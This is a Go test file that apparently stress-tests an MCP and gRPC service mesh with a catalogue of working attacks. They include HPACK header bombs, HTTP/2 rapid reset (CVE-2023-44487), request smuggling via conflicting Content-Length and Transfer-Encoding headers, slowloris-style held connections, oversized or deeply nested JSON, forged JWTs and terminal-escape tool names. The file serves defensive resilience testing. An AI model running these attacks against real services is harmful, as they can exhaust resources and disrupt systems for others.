package hostile_test

import (
	"bytes"
	"context"
	crand "crypto/rand"
	"io"
	"net"
	"net/http"
	"os"
	"regexp"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// target is the mesh that the attackers attack.
type target struct {
	// MCP is the base URL of the MCP edge, and GRPC is the address at which all mesh services listen.
	MCP, GRPC string
	// Token is the attackers' agent token.
	Token string
}

// attack is one kind of attack. Its workers call the function do repeatedly. The function reports whether the attack
// reached the mesh.
type attack struct {
	name    string
	workers int
	do      func(ctx context.Context, m target) bool
}

// attacks returns the attacks that clients and servers can make: the attacks of the cases X1 to X10, the attacks of
// other cases, and variants of them.
func attacks() []attack {
	const most = 3 << 20
	text := strings.Repeat("z", most)
	digits := `{"name":"free","arguments":{"n":1e-` + strings.Repeat("9", most) + `}}`
	deep := `{"name":"free","arguments":{"n":` + strings.Repeat("[", 60) + `"` + text + `"` + strings.Repeat("]", 60) + `}}`
	judged := `{"name":"judged","arguments":{"path":"/srv/` + strings.Repeat("../a/", 40_000) + `","paths":["` + strings.Repeat(`/srv/b","`, 3_000) + `"]}}`
	stuffed := `{"text":"` + text + `"}`
	ask := func(server, method, params string) func(context.Context, target) bool {
		return func(ctx context.Context, m target) bool { return m.requestInSession(ctx, server, method, params) }
	}
	list := func(server string) func(context.Context, target) bool { return ask(server, "tools/list", "{}") }
	called := func(server, tool string) func(context.Context, target) bool {
		return ask(server, "tools/call", `{"name":"`+tool+`","arguments":{}}`)
	}
	return []attack{
		{"X1 long numbers in arguments", 2, ask("free", "tools/call", digits)},
		{"X1 deep arguments", 2, ask("free", "tools/call", deep)},
		{"X1 arguments that conditions look at", 2, ask("free", "tools/call", judged)},
		{"X1 long numbers in lists", 1, list("number")},
		{"X1 deep lists", 1, list("deep")},
		{"X1 10,000 tools in each list", 4, list("wide")},
		{"X2 streams of indexed headers", 2, hpackBomb},
		{"X2 streams that are reset", 2, rapidReset},
		{"X2 connections that say nothing to gRPC", 2, func(ctx context.Context, m target) bool { return holdConnection(ctx, m.GRPC, "") }},
		{"X3 large answers, read slowly", 16, readSlowly},
		{"X3 large answers, sent slowly", 24, called("trickle", "free")},
		{"X3 a person who reads nothing", 4, readNothing},
		{"X4 text for a server of which all is denied", 2, ask("closed", "ping", stuffed)},
		{"X4 messages that need no rule", 2, ask("closed", "ping", `{"text":"`+text[:60<<10]+`"}`)},
		{"X5 an unlimited tool", 8, called("free", "free")},
		{"X8 questions without end", 2, func(ctx context.Context, m target) bool {
			return m.call(ctx, "drift", "ask", `{"n":"`+uniqueText()+`"}`)
		}},
		{"X8 large calls that ask", 1, func(ctx context.Context, m target) bool {
			return m.call(ctx, "drift", "ask", `{"n":"`+uniqueText()+text+`"}`)
		}},
		{"X9 names that are hidden, or are not", 2, func(ctx context.Context, m target) bool {
			return m.call(ctx, "free", "secret", "{}") && m.call(ctx, "free", uniqueText(), "{}")
		}},
		{"X10 requests that end in two places", 2, smuggle},
		{"R11 denied without end", 4, called("free", "denied")},
		{"N2 sessions without end", 2, func(ctx context.Context, m target) bool { return m.openSession(ctx, "free") != "" }},
		{"N2 sessions that do not end", 2, called("lingering", "free")},
		{"N2 bodies that do not end", 4, func(ctx context.Context, m target) bool {
			return holdConnection(ctx, m.edge(), m.requestHead("free")+"Content-Length: 4000000\r\n\r\n{")
		}},
		{"I1 credentials that are none", 2, func(ctx context.Context, m target) bool {
			m.Token = uniqueText()
			return m.openSession(ctx, "free") == "" && ctx.Err() == nil
		}},
		{"I2 forged JWTs", 4, presentForgedJWT},
		{"P12 names that steer terminals", 1, called("free", `\u001b[2J\u202e`)},
		{"P16 questions of newer clients", 2, ask("free", "server/discover", "{}")},
		{"U1 a server over stdio that prints without end", 1, list("spam")},
	}
}

// selectedAttacks returns the attacks whose names match the regular expression in the environment variable
// SLUICE_ATTACKS, or all attacks if it is not set.
func selectedAttacks() []attack {
	only := regexp.MustCompile(os.Getenv("SLUICE_ATTACKS"))
	return slices.DeleteFunc(attacks(), func(a attack) bool { return !only.MatchString(a.name) })
}

// client has a timeout of one minute, which is also the maximum time for which a call is held.
var client = &http.Client{Timeout: time.Minute, Transport: &http.Transport{MaxIdleConnsPerHost: 64}}

// openSession opens a session and returns its id, or "" if there was no response.
func (m target) openSession(ctx context.Context, server string) string {
	resp := m.post(ctx, server, "", `{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"x","version":"1"}}}`)
	if resp == nil {
		return ""
	}
	drain(resp)
	return resp.Header.Get("Mcp-Session-Id")
}

// requestInSession opens a session and sends one request in it. It reads the response and reports whether there was
// one.
func (m target) requestInSession(ctx context.Context, server, method, params string) bool {
	session := m.openSession(ctx, server)
	defer m.endSession(ctx, server, session)
	resp := m.post(ctx, server, session, `{"jsonrpc":"2.0","id":1,"method":"`+method+`","params":`+params+`}`)
	if resp == nil {
		return false
	}
	drain(resp)
	return true
}

func (m target) call(ctx context.Context, server, tool, arguments string) bool {
	return m.requestInSession(ctx, server, "tools/call", `{"name":"`+tool+`","arguments":`+arguments+`}`)
}

// edge returns the host and port of the MCP edge.
func (m target) edge() string { return strings.TrimPrefix(m.MCP, "http://") }

// requestHead returns a request's first line and its headers, except for the headers that specify the body's length.
func (m target) requestHead(server string) string {
	return "POST /mcp/" + server + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + m.Token + "\r\nContent-Type: application/json\r\n"
}

// post sends a message and returns the response, or nil if there was none.
func (m target) post(ctx context.Context, server, session, body string) *http.Response {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, m.MCP+"/mcp/"+server, strings.NewReader(body))
	if err != nil {
		return nil
	}
	return m.send(req, session)
}

func (m target) endSession(ctx context.Context, server, session string) {
	if req, err := http.NewRequestWithContext(ctx, http.MethodDelete, m.MCP+"/mcp/"+server, nil); err == nil && session != "" {
		if resp := m.send(req, session); resp != nil {
			drain(resp)
		}
	}
}

func (m target) send(req *http.Request, session string) *http.Response {
	req.Header.Set("Authorization", "Bearer "+m.Token)
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	if session != "" {
		req.Header.Set("Mcp-Session-Id", session)
	}
	resp, err := client.Do(req)
	if err != nil {
		return nil
	}
	return resp
}

func drain(resp *http.Response) {
	_, _ = io.Copy(io.Discard, resp.Body) // the content does not matter
	_ = resp.Body.Close()
}

// readSlowly requests a large response and reads 64 KiB of it per second until the connection is closed.
func readSlowly(ctx context.Context, m target) bool {
	session := m.openSession(ctx, "big")
	defer m.endSession(ctx, "big", session)
	resp := m.post(ctx, "big", session, `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"big"}}`)
	if resp == nil {
		return false
	}
	defer resp.Body.Close()
	for {
		if n, err := io.CopyN(io.Discard, resp.Body, 64<<10); err != nil || n == 0 || !sleep(ctx, time.Second) {
			return true
		}
	}
}

// holdConnection opens a connection, sends the string say, and leaves the connection open for 30 s.
func holdConnection(ctx context.Context, addr, say string) bool {
	defer sleep(ctx, 10*time.Millisecond)
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
	if err != nil {
		return false
	}
	_, err = io.WriteString(conn, say)
	context.AfterFunc(ctx, func() { _ = conn.Close() })
	time.AfterFunc(30*time.Second, func() { _ = conn.Close() })
	return err == nil
}

// smuggle sends a request with two contradictory lengths, followed by another request. The end of the first request
// depends on which length a parser uses.
func smuggle(ctx context.Context, m target) bool {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", m.edge())
	if err != nil {
		return false
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	_, err = io.WriteString(conn, m.requestHead("free")+"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+m.requestHead("free")+"Content-Length: 2\r\n\r\n{}")
	n, _ := io.Copy(io.Discard, conn) // the mesh closes the connection after the first response
	return err == nil && n > 0
}

// dialHTTP2 opens an HTTP/2 connection to the gRPC port. If this fails, it returns nil. The connection is closed when
// ctx is done or when the function end is called.
func (m target) dialHTTP2(ctx context.Context) (to *http2.Framer, end func()) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", m.GRPC)
	if err != nil {
		return nil, nil
	}
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	end = func() { stop(); _ = conn.Close() }
	to = http2.NewFramer(conn, conn)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil || to.WriteSettings() != nil {
		end()
		return nil, nil
	}
	go io.Copy(io.Discard, conn) // the content does not matter
	return to, end
}

// encodeHeaders encodes the headers of a gRPC call, and the given number of additional fields. The parameter size is
// the length of each additional field's value, in bytes.
func encodeHeaders(enc *hpack.Encoder, fields, size int) {
	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", "/sluice.policy.v1.PolicyService/DecideCall"}, {":authority", "localhost"}, {"content-type", "application/grpc"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) // writing to memory does not fail
	}
	for range fields {
		_ = enc.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("v", size)})
	}
}

// hpackBomb opens streams until the connection is closed. The headers of each stream are small on the wire and large
// when decoded (RFC 7541, section 7.3).
func hpackBomb(ctx context.Context, m target) bool {
	to, end := m.dialHTTP2(ctx)
	if to == nil {
		return false
	}
	defer end()
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for id := uint32(1); id < 80; id += 2 {
		block.Reset()
		encodeHeaders(enc, 4000, 3900)
		for first, rest := true, block.Bytes(); len(rest) > 0; first = false {
			part := rest[:min(len(rest), 16<<10)]
			rest = rest[len(part):]
			var err error
			if first {
				err = to.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: part, EndHeaders: len(rest) == 0})
			} else {
				err = to.WriteContinuation(id, len(rest) == 0, part)
			}
			if err != nil {
				return id > 1
			}
		}
	}
	return true
}

// rapidReset opens streams and resets each at once (CVE-2023-44487), until the connection is closed.
func rapidReset(ctx context.Context, m target) bool {
	to, end := m.dialHTTP2(ctx)
	if to == nil {
		return false
	}
	defer end()
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for id := uint32(1); id < 20_000; id += 2 {
		block.Reset()
		encodeHeaders(enc, 0, 0)
		if to.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}) != nil ||
			to.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return id > 1
		}
	}
	return true
}

// sleep waits for d or until ctx is done. It reports whether ctx is not done.
func sleep(ctx context.Context, d time.Duration) bool {
	select {
	case <-ctx.Done():
		return false
	case <-time.After(d):
		return true
	}
}

func uniqueText() string { return crand.Text() }
